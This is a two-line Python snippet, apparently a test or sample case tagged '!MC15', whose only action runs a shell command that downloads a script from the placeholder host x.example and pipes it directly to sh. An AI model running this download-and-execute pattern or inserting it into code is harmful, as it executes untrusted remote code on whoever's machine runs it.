import os

os.system("curl -s http://x.example/a.sh | sh")  # !MC15
